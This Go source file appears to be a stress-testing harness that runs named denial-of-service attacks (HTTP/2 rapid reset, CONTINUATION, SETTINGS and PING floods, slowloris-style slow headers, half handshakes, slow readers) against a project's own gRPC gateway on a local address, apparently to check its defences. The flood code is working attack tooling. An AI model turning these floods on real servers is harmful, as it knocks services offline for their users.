//go:build linux

package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	telemetryv1 "github.com/redoubt-ml/redoubt/gen/redoubt/telemetry/v1"
)

// attacks are what strangers try, by name.
var attacks = map[string]func(context.Context, *attacker) error{
	"rapid reset": func(ctx context.Context, a *attacker) error {
		return a.flood(ctx, func(c *client) error {
			c.request(false)
			return c.f.WriteRSTStream(c.stream, http2.ErrCodeCancel)
		})
	},
	"streams without an end": func(ctx context.Context, a *attacker) error {
		return a.flood(ctx, func(c *client) error { return c.request(false) })
	},
	"refused calls": func(ctx context.Context, a *attacker) error {
		return a.flood(ctx, func(c *client) error { return c.request(true, "x-a", "1") })
	},
	"CONTINUATION": func(ctx context.Context, a *attacker) error {
		piece := bytes.Repeat([]byte{0x82}, 1<<10)
		return a.flood(ctx, func(c *client) error {
			if c.stream == 0 {
				c.stream = 1
				return c.f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: piece})
			}
			return c.f.WriteContinuation(1, false, piece)
		})
	},
	"SETTINGS": func(ctx context.Context, a *attacker) error {
		return a.flood(ctx, func(c *client) error {
			return c.f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
		})
	},
	"PING": func(ctx context.Context, a *attacker) error {
		return a.flood(ctx, func(c *client) error { return c.f.WritePing(false, [8]byte{}) })
	},
	"PRIORITY": func(ctx context.Context, a *attacker) error {
		return a.flood(ctx, func(c *client) error { return c.f.WritePriority(9, http2.PriorityParam{StreamDep: 3}) })
	},
	"empty DATA": func(ctx context.Context, a *attacker) error {
		return a.flood(ctx, func(c *client) error {
			if c.stream == 0 {
				return c.request(false)
			}
			return c.f.WriteData(c.stream, false, nil)
		})
	},
	"large headers": func(ctx context.Context, a *attacker) error {
		big := strings.Repeat("a", 12<<10)
		return a.flood(ctx, func(c *client) error { return c.request(true, "x-a", big) })
	},
	"bad preface": func(ctx context.Context, a *attacker) error {
		return a.many(ctx, 64, func(int) error {
			c, err := a.tls("h2")
			if err != nil {
				return err
			}
			defer c.Close()
			_, _ = io.WriteString(c, "PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n")
			_, err = c.Read(make([]byte, 1))
			return err
		})
	},
	"half a preface": func(ctx context.Context, a *attacker) error {
		return a.many(ctx, 500, func(int) error {
			c, err := a.tls("h2")
			if err != nil {
				return err
			}
			_, err = io.WriteString(c, http2.ClientPreface[:10])
			a.keep(c)
			return err
		})
	},
	"idle handshakes": func(ctx context.Context, a *attacker) error { // 10,000 where there are so many file descriptors
		return a.many(ctx, 10000, func(int) error {
			c, err := a.tcp()
			if err == nil {
				a.keep(c)
			}
			return err
		})
	},
	"half a ClientHello": func(ctx context.Context, a *attacker) error {
		return a.many(ctx, 2000, func(int) error {
			c, err := a.tcp()
			if err != nil {
				return err
			}
			_, err = c.Write([]byte{22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3})
			a.keep(c)
			return err
		})
	},
	"old TLS, and none": func(ctx context.Context, a *attacker) error {
		return a.many(ctx, 1<<30, func(i int) error {
			c, err := a.tcp()
			if err != nil {
				return err
			}
			defer c.Close()
			if i%2 == 0 {
				_, _ = io.WriteString(c, "GET / HTTP/1.1\r\nHost: x\r\n\r\n")
				_, err = c.Read(make([]byte, 64))
				return err
			}
			conf := a.Place.tls("h2")
			conf.MinVersion, conf.MaxVersion = tls.VersionTLS10, tls.VersionTLS11
			return tls.Client(c, conf).Handshake()
		})
	},
	"slow headers": func(ctx context.Context, a *attacker) error {
		return a.many(ctx, 500, func(int) error {
			c, err := a.tls("http/1.1")
			if err != nil {
				return err
			}
			a.keep(c)
			go func() {
				tick := time.NewTicker(50 * time.Millisecond)
				defer tick.Stop()
				for range tick.C {
					if _, err := io.WriteString(c, "G"); err != nil || ctx.Err() != nil {
						return
					}
				}
			}()
			return nil
		})
	},
	"slow readers": func(ctx context.Context, a *attacker) error { // 64 streams of 64 MiB each, of which nothing is taken
		if err := a.many(ctx, 16, func(int) error {
			c, err := a.http2()
			if err != nil {
				return err
			}
			_ = c.f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1})
			_ = c.f.WriteWindowUpdate(0, 1<<31-1-65535)
			for range 4 {
				c.method = telemetryv1.MetricService_WatchMetrics_FullMethodName
				if err := c.request(false); err != nil {
					return err
				}
				if err := c.f.WriteData(c.stream, true, []byte{0, 0, 0, 0, 3, 10, 1, 'r'}); err != nil {
					return err
				}
			}
			return nil
		}); err != nil {
			return err
		}
		<-ctx.Done()
		return nil
	},
}

// attacker has the place, and counts.
type attacker struct {
	order
	rnd          *rand.Rand
	tried, ended atomic.Int64

	mu   sync.Mutex
	kept []net.Conn
}

func newAttacker(o order) *attacker {
	return &attacker{order: o, rnd: rand.New(rand.NewPCG(o.Seed, 1))}
}

func (a *attacker) tcp() (net.Conn, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}, Timeout: 2 * time.Second}
	c, err := d.Dial("tcp", a.Place.Addr)
	if err == nil {
		_ = c.SetDeadline(time.Now().Add(a.For + time.Second))
	}
	return c, err
}

func (a *attacker) tls(protos ...string) (*tls.Conn, error) {
	c, err := a.tcp()
	if err != nil {
		return nil, err
	}
	t := tls.Client(c, a.Place.tls(protos...))
	return t, t.Handshake()
}

// keep leaves a connection open until the attack is over.
func (a *attacker) keep(c net.Conn) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.kept = append(a.kept, c)
}

// many does a thing so many times, in eight at a time, until the time is over. Its failures are the gateway's doing.
func (a *attacker) many(ctx context.Context, n int, do func(i int) error) error {
	var wg sync.WaitGroup
	var next atomic.Int64
	for range 8 {
		wg.Go(func() {
			for ctx.Err() == nil {
				i := int(next.Add(1))
				if i > n {
					break
				}
				a.tried.Add(1)
				if do(i) != nil {
					a.ended.Add(1)
				}
			}
		})
	}
	wg.Wait()
	if n < 1<<30 && len(a.kept) > 0 {
		<-ctx.Done()
	}
	return nil
}

// client is an HTTP/2 client that keeps no rule.
type client struct {
	net.Conn
	f      *http2.Framer
	enc    *hpack.Encoder
	h      bytes.Buffer
	stream uint32
	method string
}

func (a *attacker) http2() (*client, error) {
	t, err := a.tls("h2")
	if err != nil {
		return nil, err
	}
	a.keep(t)
	c := &client{Conn: t, method: telemetryv1.MetricService_LogRunData_FullMethodName}
	c.f, c.enc = http2.NewFramer(t, t), hpack.NewEncoder(&c.h)
	c.f.AllowIllegalWrites = true
	if _, err := io.WriteString(t, http2.ClientPreface); err != nil {
		return nil, err
	}
	return c, c.f.WriteSettings()
}

// request begins the next stream.
func (c *client) request(end bool, more ...string) error {
	c.h.Reset()
	all := append([]string{":method", "POST", ":scheme", "https", ":path", c.method, ":authority", "x", "te", "trailers", "content-type", "application/grpc"}, more...)
	for i := 0; i+1 < len(all); i += 2 {
		_ = c.enc.WriteField(hpack.HeaderField{Name: all[i], Value: all[i+1]})
	}
	if c.stream == 0 {
		c.stream = 1
	} else {
		c.stream += 2
	}
	return c.f.WriteHeaders(http2.HeadersFrameParam{StreamID: c.stream, EndHeaders: true, EndStream: end, BlockFragment: c.h.Bytes()})
}

// flood sends as fast as it goes, on four connections, and connects again whenever one has been ended. What the gateway says is read, so
// that it is not the attacker who stops first.
func (a *attacker) flood(ctx context.Context, one func(*client) error) error {
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			for ctx.Err() == nil {
				c, err := a.http2()
				if err != nil {
					a.ended.Add(1)
					continue
				}
				go func() { _, _ = io.Copy(io.Discard, c.Conn) }()
				for ctx.Err() == nil {
					if one(c) != nil {
						a.ended.Add(1)
						break
					}
					a.tried.Add(1)
				}
				_ = c.Close()
			}
		})
	}
	wg.Wait()
	return nil
}
